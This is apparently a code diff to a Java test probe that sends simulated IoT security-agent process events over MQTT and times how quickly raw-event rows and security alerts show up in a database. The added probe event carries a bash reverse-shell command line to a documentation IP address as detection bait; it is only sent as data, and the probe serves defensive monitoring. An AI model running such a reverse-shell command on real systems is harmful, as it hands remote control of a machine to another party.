@@ -34,7 +34,9 @@ final class LagProbe implements AutoCloseable {
     private final MqttClient client;
     private final Connection database;
     private final List<Double> lagsMillis = new ArrayList<>();
+    private final List<Double> alertLagsMillis = new ArrayList<>();
     private int lost;
+    private int lostAlerts;
 
     /** Connects as the probe device; with a registry, logged in with a SAS token as devices must be. */
     LagProbe(String brokerHost, int brokerPort, Connection database, Optional<RegistryProvisioner> registry) throws Exception {
@@ -48,36 +50,65 @@ final class LagProbe implements AutoCloseable {
         client.connect(brokerPort, brokerHost).toCompletionStage().toCompletableFuture().get(10, TimeUnit.SECONDS);
     }
 
-    /** Publishes one probe and waits (up to the timeout) for its row; records the lag. */
+    /**
+     * Publishes one probe, a reverse shell with a marker of its own, and waits (up to the timeout) for its raw-event
+     * row and for the SecurityAlert record its alert gets (every hit appends one, with the hit's command line);
+     * records both lags, measured on the database's clock like the rows' TimeGenerated.
+     */
     void probe(Duration timeout) throws Exception {
         String eventId = UUID.randomUUID().toString();
         // The database keeps microseconds; a probe must be found by the very timestamp it was stored under.
         Instant sent = Instant.now().truncatedTo(java.time.temporal.ChronoUnit.MICROS);
+        String marker = "probe-" + eventId;
         String body = "{\"AgentVersion\":\"1.0.0\",\"AgentId\":\"5d8f2a1c-3b4e-4f6a-9c7d-1e2f3a4b5c6d\",\"MessageSchemaVersion\":\"1.0\","
                 + "\"Events\":[{\"Id\":\"" + eventId + "\",\"TimestampLocal\":\"" + sent + "\",\"TimestampUTC\":\"" + sent + "\","
                 + "\"Category\":\"Triggered\",\"Name\":\"ProcessCreate\",\"EventType\":\"Security\",\"IsEmpty\":false,"
-                + "\"PayloadSchemaVersion\":\"1.0\",\"Payload\":[{\"Executable\":\"/bin/true\",\"ProcessId\":1,"
-                + "\"ParentProcessId\":1,\"UserId\":\"0\",\"CommandLine\":\"true\"}]}]}";
+                + "\"PayloadSchemaVersion\":\"1.0\",\"Payload\":[{\"Executable\":\"/bin/bash\",\"ProcessId\":1,"
+                + "\"ParentProcessId\":1,\"UserId\":\"0\",\"CommandLine\":\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 # " + marker + "\"}]}]}";
         client.publish("devices/" + DEVICE + "/messages/events/%24.ifid=urn%3Aazureiot%3ASecurity%3ASecurityAgent%3A1",
                 Buffer.buffer(body.getBytes(StandardCharsets.UTF_8)), MqttQoS.AT_LEAST_ONCE, false, false);
         long deadline = System.nanoTime() + timeout.toNanos();
-        try (PreparedStatement find = database.prepareStatement("SELECT time_generated FROM workspace.security_iot_raw_event"
-                + " WHERE device_id = ? AND iot_raw_event_id = ? AND time_stamp = ?")) {
-            find.setString(1, DEVICE);
-            find.setString(2, eventId);
-            find.setObject(3, java.time.OffsetDateTime.ofInstant(sent, java.time.ZoneOffset.UTC));
-            while (System.nanoTime() < deadline) {
-                try (ResultSet row = find.executeQuery()) {
-                    if (row.next()) {
-                        Instant stored = row.getObject(1, java.time.OffsetDateTime.class).toInstant();
-                        lagsMillis.add(Math.max(0, Duration.between(sent, stored).toNanos() / 1e6));
-                        return;
-                    }
-                }
+        try (PreparedStatement row = database.prepareStatement("SELECT time_generated FROM workspace.security_iot_raw_event"
+                + " WHERE device_id = ? AND iot_raw_event_id = ? AND time_stamp = ?");
+             PreparedStatement alert = database.prepareStatement("SELECT time_generated FROM workspace.security_alert"
+                     + " WHERE device_id = ? AND time_generated >= ? AND extended_properties LIKE ?")) {
+            row.setString(1, DEVICE);
+            row.setString(2, eventId);
+            row.setObject(3, java.time.OffsetDateTime.ofInstant(sent, java.time.ZoneOffset.UTC));
+            alert.setString(1, DEVICE);
+            alert.setObject(2, java.time.OffsetDateTime.ofInstant(sent.minusSeconds(5), java.time.ZoneOffset.UTC));
+            alert.setString(3, "%" + marker + "%");
+            boolean stored = false;
+            boolean alerted = false;
+            while (System.nanoTime() < deadline && !(stored && alerted)) {
+                stored = stored || lag(row, sent, lagsMillis);
+                alerted = alerted || lag(alert, sent, alertLagsMillis);
                 Thread.sleep(20);
             }
+            lost += stored ? 0 : 1;
+            lostAlerts += alerted ? 0 : 1;
         }
-        lost++;
+    }
+
+    /** True when the query finds the probe's row; records how long after sending it was written. */
+    private static boolean lag(PreparedStatement find, Instant sent, List<Double> lags) throws SQLException {
+        try (ResultSet result = find.executeQuery()) {
+            if (!result.next()) {
+                return false;
+            }
+            Instant written = result.getObject(1, java.time.OffsetDateTime.class).toInstant();
+            lags.add(Math.max(0, Duration.between(sent, written).toNanos() / 1e6));
+            return true;
+        }
+    }
+
+    /** Publish to SecurityAlert record lags, in milliseconds. */
+    List<Double> alertLagsMillis() {
+        return alertLagsMillis;
+    }
+
+    int alertsUnanswered() {
+        return lostAlerts;
     }
 
     List<Double> lagsMillis() {
